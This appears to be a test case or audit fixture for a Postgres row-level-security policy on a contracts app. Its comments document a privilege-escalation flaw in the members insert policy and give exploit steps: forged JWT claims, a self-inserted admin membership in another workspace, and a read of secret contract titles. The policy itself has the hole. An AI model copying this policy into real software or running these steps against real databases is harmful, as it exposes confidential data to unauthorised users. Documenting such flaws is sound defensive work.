-- A user makes himself a member of any workspace whose id he knows: only the user of the row is checked.
-- about: members
-- as: hf_contracts_app
-- exploit: SET request.jwt.claims = '{"sub": "a0000000-0000-4000-8000-000000000001", "role": "member"}';
-- exploit: INSERT INTO ct.members VALUES ('b0000000-0000-4000-8000-000000000000',
-- exploit: 'a0000000-0000-4000-8000-000000000001', 'x', 'admin');
-- exploit: SELECT title FROM ct.contracts;
-- shows: Road-secret merger
-- Who opens a workspace becomes its first member.
GRANT INSERT ON ct.members TO hf_contracts_app;
CREATE POLICY members_insert ON ct.members FOR INSERT TO hf_contracts_app WITH CHECK (user_id = ct.uid());
